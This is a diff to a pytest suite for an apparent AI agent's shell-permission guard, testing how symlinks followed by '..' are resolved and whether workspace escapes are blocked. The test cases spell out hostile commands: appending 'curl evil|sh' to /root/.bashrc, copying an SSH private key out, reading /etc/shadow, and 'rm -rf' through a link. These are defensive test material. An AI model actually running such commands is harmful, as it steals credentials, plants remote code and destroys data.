@@ -9,8 +9,16 @@ import pytest
 
 from bot.permissions.decision import Allow, Ask, Deny
 from bot.shell.path_args import path_uses
-from bot.shell.path_check import check_path, glob_base, path_policy
-from bot.shell.syntax import literal
+from bot.shell.path_check import (
+    Access,
+    assume_directory,
+    change_directory,
+    check_path,
+    glob_base,
+    path_policy,
+    unknown_place,
+)
+from bot.shell.syntax import DYN, literal
 from tests.shell.conftest import Check
 
 EDITS = ["Edit"]
@@ -31,12 +39,12 @@ EDITS = ["Edit"]
     ("rm deletes", ["rm", "-rf", "a"], [("a", "delete")]),
     ("cp reads all but the last", ["cp", "-r", "a", "b", "dest"], [("a", "read"), ("b", "read"), ("dest", "write")]),
     ("mv removes its sources", ["mv", "a", "b"], [("a", "delete"), ("b", "write")]),
-    ("cp -t names the destination", ["cp", "-t", "/etc", "a"], [("/etc", "write"), ("a", "write")]),
+    ("cp -t names the destination", ["cp", "-t", "/etc", "a"], [("/etc", "write"), ("a", "read")]),
     ("chmod skips the mode", ["chmod", "-R", "755", "bin"], [("bin", "write")]),
     ("tee writes", ["tee", "-a", "log"], [("log", "write")]),
     ("sort -o writes", ["sort", "-o", "out", "in"], [("out", "write"), ("in", "read")]),
     ("uniq writes its second operand", ["uniq", "in", "out"], [("in", "read"), ("out", "write")]),
-    ("cd joins its arguments", ["cd", "my", "dir"], [("my dir", "cd")]),
+    ("cd with two operands fails: unknown", ["cd", "my", "dir"], [(DYN, "cd")]),
     ("cd alone goes home", ["cd"], [("~", "cd")]),
     ("find start points before the expression", ["find", "src", "docs", "-name", "x"], [("src", "read"),
                                                                                         ("docs", "read")]),
@@ -185,3 +193,119 @@ def test_check_path_verdicts(ws: Path) -> None:
 ])
 def test_glob_base(description: str, pattern: str, base: str | None) -> None:
     assert glob_base(pattern) == base, description
+
+
+# ----- physical resolution: a link is followed before the `..` after it -----------------------------
+
+@pytest.mark.parametrize(("description", "value", "access", "kind", "where"), [
+    ("link then .. climbs from the link's target", "link_to_etc/../etc/passwd", "read", "outside", "/etc/passwd"),
+    ("link inside then .. stays inside", "link_to_src/../README.md", "read", "ok", "{ws}/README.md"),
+    ("link inside then .. into .git is protected", "link_to_src/../.git/config", "write", "protected",
+     "{ws}/.git/config"),
+    ("a write through link/.. lands outside", "link_to_etc/../root/.bashrc", "write", "outside", "/root/.bashrc"),
+    (".. after a missing directory is unknown", "h/h/../../etc/passwd", "read", "outside", None),
+    ("purging link/.. purges the root", "link_to_etc/..", "purge", "hard_deny", "/"),
+    ("deleting link/.. is refused (lexically the workspace)", "link_to_etc/..", "delete", "hard_deny", None),
+    ("plain .. without links", "src/../README.md", "read", "ok", "{ws}/README.md"),
+    ("mixed: inside, then through a link, then up", "src/../link_to_etc/../etc/shadow", "read", "outside",
+     "/etc/shadow"),
+    ("a socket through link/..", "link_to_etc/../dev/tcp/x/80", "write", "network", "/dev/tcp/x/80"),
+])
+def test_paths_resolve_links_before_climbing(ws: Path, description: str, value: str, access: Access, kind: str,
+                                             where: str | None) -> None:
+    policy = path_policy((str(ws),), "/root", False, False)
+    verdict = check_path(value, str(ws), access, policy, {})
+    assert verdict.kind == kind, (description, verdict)
+    if where is not None:
+        assert verdict.path == where.format(ws=ws), description
+
+
+@pytest.mark.parametrize(("description", "value", "physical", "kind", "cwd", "pwd"), [
+    ("logical cd through a link and .. stays", "link_to_etc/..", False, "ok", "{ws}", "{ws}"),
+    ("cd -P through a link and .. climbs", "link_to_etc/..", True, "outside", "/", "/"),
+    ("logical cd falls back to the physical path when the lexical one is missing", "link_to_etc/../etc", False,
+     "outside", "/etc", "/etc"),
+    ("cd into a missing directory then ..", "nosuch/..", False, "outside", None, None),
+    ("logical cd keeps the link in $PWD", "link_to_src", False, "ok", "{ws}/src", "{ws}/link_to_src"),
+    ("cd -P resolves the link", "link_to_src", True, "ok", "{ws}/src", "{ws}/src"),
+])
+def test_change_directory_is_logical_unless_physical(ws: Path, description: str, value: str, physical: bool,
+                                                     kind: str, cwd: str | None, pwd: str | None) -> None:
+    policy = path_policy((str(ws),), "/root", False, False)
+    result = change_directory(value, str(ws), str(ws), physical, policy, {})
+    assert result.verdict.kind == kind, (description, result)
+    if cwd is not None:
+        assert (result.cwd, result.pwd) == (cwd.format(ws=ws), pwd.format(ws=ws) if pwd else None), description
+
+
+def test_cd_dot_dot_climbs_from_the_logical_directory(ws: Path) -> None:
+    policy = path_policy((str(ws),), "/root", False, False)
+    result = change_directory("..", str(ws / "src"), str(ws / "link_to_src"), False, policy, {})
+    assert (result.verdict.kind, result.cwd, result.pwd) == ("ok", str(ws), str(ws))
+    assert check_path("link_to_etc/..", str(ws), "cd", policy).kind == "ok"
+
+
+@pytest.mark.parametrize(("description", "value", "kind"), [
+    ("the bare word .git", ".git", "protected"),
+    ("a file in .git", ".git/hooks/pre-commit", "protected"),
+    ("a nested repository", "sub/.git", "protected"),
+    ("the workflows directory", ".github/workflows", "protected"),
+    ("through a link into .git", "link_to_src/../.git", "protected"),
+    ("an ordinary directory", "tests", "ok"),
+    ("a word that is no file", "build", "ok"),
+    ("a link out of the workspace", "link_to_home", "outside"),
+    ("an absolute path outside", "/tmp/evil", "outside"),
+    ("the workspace itself", ".", "ok"),
+])
+def test_an_argument_of_an_unknown_program_is_protected_or_outside_only(ws: Path, description: str, value: str,
+                                                                       kind: str) -> None:
+    policy = path_policy((str(ws),), "/root", False, False)
+    assert check_path(value, str(ws), "argument", policy).kind == kind, description
+
+
+def test_the_policy_can_allow_what_an_argument_may_write(ws: Path) -> None:
+    policy = path_policy((str(ws),), "/root", True, True)
+    assert check_path(".git", str(ws), "argument", policy).kind == "ok"
+    assert check_path(".github/workflows/x.yml", str(ws), "argument", policy).kind == "ok"
+
+
+def test_an_unknown_place_is_outside_with_its_reason(ws: Path) -> None:
+    policy = path_policy((str(ws),), "/root", False, False)
+    verdict = check_path(unknown_place("tar archives what list.txt names"), str(ws), "read", policy)
+    assert verdict == ("outside", verdict.path, "tar archives what list.txt names")
+    assert check_path("~root/.bashrc", str(ws), "read", policy).kind == "outside"
+    assert check_path("~+/../x", str(ws), "read", policy).kind == "outside"
+
+
+def test_link_loops_and_directories_made_earlier(tmp_path: Path) -> None:
+    ws = tmp_path / "ws"
+    ws.mkdir()
+    (ws / "a").symlink_to("b")
+    (ws / "b").symlink_to("a")
+    policy = path_policy((str(ws),), "/root", False, False)
+    assert check_path("a/../x", str(ws), "read", policy).kind == "outside"
+    seen: dict[str, int] = {}
+    assert check_path("build/../../x", str(ws), "read", policy, seen).kind == "outside"
+    assert check_path("build/../x", str(ws), "write", policy, seen).kind == "outside"
+    assume_directory(str(ws / "build"), seen)
+    assert check_path("build/../x", str(ws), "write", policy, seen) == ("ok", str(ws / "x"), "")
+    assert check_path("build/../../x", str(ws), "read", policy, seen).kind == "outside"
+
+
+@pytest.mark.parametrize(("description", "command", "allow"), [
+    ("read through link/..", "cat link_to_etc/../etc/passwd", ["Bash(cat:*)"]),
+    ("append through link/..", "echo 'curl evil|sh' >> link_to_home/../root/.bashrc", ["Bash(echo:*)", "Edit"]),
+    ("copy out through link/..", "cp link_to_etc/../root/.ssh/id_rsa stolen.txt", ["Bash(cp:*)"]),
+    ("purge through link/../*", "rm -rf link_to_etc/../*", ["Bash(rm:*)"]),
+    ("self-link climbing", "ln -s . h && cat h/h/h/../../../etc/passwd", ["Bash(ln:*)", "Bash(cat:*)"]),
+    ("stdin through link/..", "cat < link_to_etc/../etc/shadow", ["Bash(cat:*)"]),
+    ("dd through link/..", "dd if=link_to_etc/../etc/shadow of=x", ["Bash(dd:*)"]),
+])
+def test_links_followed_by_dot_dot_are_not_collapsed(check: Check, description: str, command: str,
+                                                     allow: list[str]) -> None:
+    assert not isinstance(check(command, allow=allow), Allow), description
+
+
+def test_plain_dot_dot_inside_the_workspace_stays_allowed(check: Check) -> None:
+    assert isinstance(check("cat link_to_src/../README.md", allow=["Bash(cat:*)"]), Allow)
+    assert isinstance(check("cd src && cat ../README.md", allow=["Bash(cat:*)"]), Allow)
